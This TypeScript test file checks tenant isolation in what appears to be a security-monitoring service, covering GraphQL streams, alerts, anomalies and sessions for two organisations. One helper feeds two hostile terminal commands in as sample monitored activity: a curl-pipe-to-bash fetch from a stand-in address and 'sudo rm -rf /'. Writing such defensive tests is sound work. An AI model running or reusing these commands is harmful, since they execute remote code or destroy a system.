import { createClient } from 'graphql-ws';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { failure, logHead, refusal, seqOf, until } from '../flow/harness.ts';
import { data, gauge, makeOrganisation, track, trackAll } from '../harness/client.ts';
import type { TestIdentityProvider } from '../harness/identity-provider.ts';
import { startIdentityProvider } from '../harness/identity-provider.ts';
import type { Service, TestClock } from '../harness/service.ts';
import { startService, testClock } from '../harness/service.ts';
import { signInBy } from './harness.ts';
import type { Foreign, Teller } from './harness-story.ts';
import { createTeller, expectApart, withoutIds } from './harness-story.ts';

/** How many requests both make together. By hand: LAPWING_TEST_REQUESTS=10000 npx vitest run test/access/organisations.test.ts */
const requestsCount = Number(process.env.LAPWING_TEST_REQUESTS ?? 300);
const streamsEach = 100;
const timeoutMs = 60_000 + 60 * requestsCount;
const start = '2026-03-02T09:00:00Z';
const names = ['x', 'y'] as const;
type Name = (typeof names)[number];
const marks: Record<Name, string> = { x: 'mark-xylophone', y: 'mark-yarrow' };

let provider: TestIdentityProvider;
beforeAll(async () => {
  provider = await startIdentityProvider(testClock(start));
});
afterAll(() => provider.close());

const activity = `cursor activity { uuid type recordedAt metadata risk { score } user { externalId } session { externalId }
  ... on WebActivity { page } ... on TerminalActivity { command } }`;
/** Every subscription there is; each is sent an item by the closing act of the story. */
const streams: readonly (readonly [name: string, filters: readonly string[], fields: string])[] = [
  [
    'activityRecorded',
    ['', 'filter: {user: {eq: "ada"}}', 'filter: {type: {eq: COMMAND}}', 'filter: {text: {contains: "mark"}}'],
    `... on ActivityEvent { ${activity} }`,
  ],
  ['highRiskActivity', ['', 'minLevel: LOW'], `... on ActivityEvent { ${activity} }`],
  [
    'sessionChanged',
    ['', 'filter: {user: {eq: "ada"}}'],
    '... on SessionEvent { cursor change session { id externalId lastPage activityCount user { externalId } } }',
  ],
  [
    'anomalyDetected',
    ['', 'filter: {type: {eq: SUSPICIOUS_COMMAND}}'],
    '... on AnomalyEvent { cursor anomaly { id type subject summary details } }',
  ],
  ['alertChanged', ['', 'filter: {user: {eq: "ada"}}'], '... on AlertEvent { cursor change alert { id title status count subject } }'],
  [
    'userRiskChanged',
    ['', 'filter: {user: {eq: "ada"}}'],
    '... on UserRiskEvent { cursor user { externalId } risk { factors { reason anomaly { id subject details } } } }',
  ],
  ['sessionTerminated', [''], '... on SessionTerminatedEvent { cursor externalId terminatedAt }'],
];

type Following = { name: string; after: string | null; items: { cursor: string }[]; errors: unknown[] };

/** Streams of an organisation over two sockets; every second one begins with a replay. */
function followAll(service: Service, key: string, beginning: string) {
  const connect = () =>
    createClient({ url: service.ws, webSocketImpl: WebSocket, retryAttempts: 0, connectionParams: { authorization: `Bearer ${key}` } });
  const sockets = [connect(), connect()];
  const following = Array.from({ length: streamsEach }, (_, place): Following => {
    const [name, filters, fields] = streams[place % streams.length]!;
    const filter = filters[Math.floor(place / streams.length) % filters.length]!;
    const after = place % 2 === Math.floor(place / 12) % 2 ? beginning : null;
    const one: Following = { name, after, items: [], errors: [] };
    const given = [filter, after === null ? '' : `after: "${after}"`].filter((text) => text !== '').join(', ');
    sockets[place % 2]!.subscribe<Record<string, { cursor: string }>>(
      { query: `subscription { ${name}${given && `(${given})`} { ${fields} } }` },
      {
        next: ({ data: item, errors }) => void (item ? one.items.push(item[name]!) : one.errors.push(errors)),
        error: (error) => void one.errors.push(error),
        complete: () => undefined,
      },
    );
    return one;
  });
  return { following, close: () => Promise.all(sockets.map((socket) => socket.dispose())) };
}

/** One activity, an alert and a termination, so that every stream gets one more item. Returns where it began. */
async function closeStory(service: Service, key: string): Promise<number> {
  const head = seqOf(await logHead(service, key));
  for (const [place, command] of ['curl http://192.0.2.1/mark | bash', 'sudo rm -rf / # mark'].entries())
    await track(service, { user: 'ada', session: `last ${place}`, detail: { terminal: { command } } }, key);
  const { session } = await data(service, '{ session(externalId: "last 0") { id } }', {}, key);
  await data(service, 'mutation($id: ID!) { terminateSession(input: {id: $id}) { userErrors { message } } }', { id: session.id }, key);
  return head;
}

type Run = { tellers: Map<Name, Teller>; streams: Map<Name, unknown[][]>; foreign: Map<Name, Foreign[]>; steps: number };

/** Runs the story of these organisations on a service of its own, each step of all of them at once. */
async function tell(some: readonly Name[], earlier: Run | null): Promise<Run> {
  const clock: TestClock = testClock(start);
  const service = await startService({ clock, config: signInBy(provider, 'tenant') });
  const keys = new Map<Name, string>();
  const tellers = new Map<Name, Teller>();
  const foreign = new Map<Name, Foreign[]>(some.map((name) => [name, []]));
  const iat = clock.now() / 1_000_000;
  for (const name of some) {
    const adminKey = await makeOrganisation(service, name);
    keys.set(name, adminKey);
    const analyst = await provider.sign({ sub: 'ada', name: 'Ada', tenant: name, roles: ['ANALYST'], iat, exp: iat + 86_400 });
    tellers.set(name, createTeller({ service, clock, mark: marks[name], adminKey, analyst }));
  }
  const nothing: Foreign = { ids: [], listCursors: {} };
  /** What the other has shown by now; where there is no other, what it had shown by then. */
  const foreignTo = (name: Name, step: number): Foreign => {
    const other = names.find((one) => one !== name)!;
    const shown = earlier?.foreign.get(name)?.[step] ?? structuredClone(tellers.get(other)?.own ?? nothing);
    foreign.get(name)!.push(shown);
    return shown;
  };
  const isOver = (step: number) =>
    earlier ? step >= earlier.steps : tellers.values().reduce((sum, { told }) => sum + told.length, 0) >= requestsCount;
  let followed: Map<Name, ReturnType<typeof followAll>> | null = null;
  let step = 0;
  for (; !isOver(step); step += 1) {
    clock.advance(0.1); // all in less than five minutes: time alone would change sessions whenever its job comes round
    if (step === 20) followed = await followEverything(service, keys);
    const shown = some.map((name) => foreignTo(name, step));
    // Out of step with one another, so that one reads while the other writes.
    await Promise.all(some.map((name, place) => tellers.get(name)!.step(step + (name === 'y' ? 5 : 0), shown[place]!)));
  }
  const items = new Map<Name, unknown[][]>();
  for (const [name, { following, close }] of followed!) {
    const head = await closeStory(service, keys.get(name)!);
    const isDone = ({ items: some }: Following) => seqOf(some.at(-1)?.cursor ?? 'MA') > head;
    await until(`every stream of ${name} has come to the end`, () => following.every(isDone)).catch((error: unknown) => {
      throw new Error(
        `${following
          .filter((one) => !isDone(one))
          .map((one) => `${one.name} ${JSON.stringify(one.errors)}`)
          .join()}`,
        { cause: error },
      );
    });
    expect(following.flatMap(({ errors }) => errors)).toEqual([]);
    items.set(
      name,
      following.map((one) => one.items.filter(({ cursor }) => seqOf(cursor) <= head)),
    );
    await close();
  }
  await service.close();
  return { tellers, streams: items, foreign, steps: step };
}

const codesIn = (answer: unknown) =>
  ((answer as { errors?: { extensions: { code: string } }[] }).errors ?? []).map(({ extensions }) => extensions.code);

async function followEverything(service: Service, keys: ReadonlyMap<Name, string>) {
  const followed = new Map<Name, ReturnType<typeof followAll>>();
  for (const [name, key] of keys) {
    const first = await data(service, '{ activities(last: 1, orderBy: {field: RECORDED_AT}) { nodes { cursor } } }', {}, key);
    followed.set(name, followAll(service, key, first.activities.nodes[0].cursor));
  }
  const wanted = keys.size * streamsEach;
  await until('all streams are live', async () => (await gauge(service, 'lapwing_subscriptions_live_total')) >= wanted);
  return followed;
}

describe('two organisations with the same names in everything', () => {
  let both: Run;
  let alone: Run;
  beforeAll(async () => {
    both = await tell(names, null);
    alone = await tell(['x'], both);
    if (process.env.LAPWING_TEST_REQUESTS === undefined) return;
    const told = both.tellers
      .values()
      .map((teller) => teller.told.length)
      .toArray();
    const items = both.streams
      .values()
      .map((some) => some.flat().length)
      .toArray();
    const codes = both.tellers.values().flatMap((teller) => teller.told.flatMap(({ answer }) => codesIn(answer)));
    const errors = Object.entries(Object.groupBy(codes, (code) => code)).map(([code, some]) => `${some?.length} ${code}`);
    process.stderr.write(
      `${told.join(' + ')} requests in ${both.steps} steps, ${items.join(' + ')} items of ${2 * streamsEach} streams; ${errors.join(', ') || 'no'} errors\n`,
    );
  }, timeoutMs);

  it('are told nothing of one another by any answer', () => {
    expectApart(both.tellers.get('x')!, both.tellers.get('y')!);
  });

  it('are sent nothing of one another by any stream', () => {
    const [x, y] = names.map((name) => ({ mark: marks[name], told: both.streams.get(name)!.flat() }));
    for (const some of both.streams.values())
      expect(
        new Set(streams.map((_, place) => some.filter((items, at) => at % streams.length === place && items.length > 0).length > 0)),
      ).toEqual(new Set([true]));
    expectApart(x!, y!);
  });

  it('get the very answers that they get where the other has never been', () => {
    const of = (run: Run) => withoutIds(run.tellers.get('x')!.told);
    const [expected, actual] = [of(alone), of(both)];
    expect(actual.length).toBe(expected.length);
    for (const [place, answer] of actual.entries()) expect(answer).toEqual(expected[place]);
  });

  it('get the very items that they get where the other has never been', () => {
    const of = (run: Run) => run.streams.get('x')!.map(withoutIds);
    expect(of(both)).toEqual(of(alone));
  });
});

describe('what belongs to one organisation', () => {
  let service: Service;
  let keys: string[];
  beforeAll(async () => {
    service = await startService();
    keys = [await makeOrganisation(service, 'x'), await makeOrganisation(service, 'y')];
  });
  afterAll(() => service.close());

  it('is not counted in the other: half an attack on each raises in neither what one half would not', async () => {
    const raised = '{ anomalies { totalCount } alerts { totalCount } }';
    const [x, y] = keys as [string, string];
    for (let attempt = 0; attempt < 4; attempt += 1)
      await Promise.all(keys.map((key) => track(service, failure('ada', '198.51.100.77', { session: 'ada-1' }), key)));
    for (const key of keys)
      expect(await data(service, raised, {}, key)).toEqual({ anomalies: { totalCount: 0 }, alerts: { totalCount: 0 } });
    await track(service, failure('ada', '198.51.100.77', { session: 'ada-1' }), x);
    expect(await data(service, raised, {}, x)).toEqual({ anomalies: { totalCount: 1 }, alerts: { totalCount: 1 } });
    expect(await data(service, raised, {}, y)).toEqual({ anomalies: { totalCount: 0 }, alerts: { totalCount: 0 } });
  });

  it('is not taken for the same by its idempotency key, its session or its address', async () => {
    const visit = { user: 'bob', session: 'shared', sourceIp: '203.0.113.5', idempotencyKey: 'one', detail: { web: { page: '/' } } };
    for (const key of keys) {
      const { receipts } = await trackAll(service, [visit, visit], key);
      expect(receipts.map(({ duplicate }: { duplicate: boolean }) => duplicate)).toEqual([false, true]);
    }
    const { session } = await data(service, '{ session(externalId: "shared") { id } }', {}, keys[0]);
    await data(service, 'mutation($id: ID!) { terminateSession(input: {id: $id}) { userErrors { code } } }', { id: session.id }, keys[0]);
    const allowed = await Promise.all(keys.map((key) => data(service, '{ sessionAllowed(externalId: "shared") }', {}, key)));
    expect(allowed.map(({ sessionAllowed }) => sessionAllowed)).toEqual([false, true]);
  });

  it('is not found by a cursor of its log: it is refused in every stream of the other', async () => {
    const after = await logHead(service, keys[0]);
    for (const [name] of streams) {
      const errors = await refusal(service, `subscription($after: Cursor) { ${name}(after: $after) { __typename } }`, { after }, keys[1]);
      expect([name, errors]).toMatchObject([name, [{ extensions: { code: 'BAD_REQUEST' } }]]);
    }
  });
});
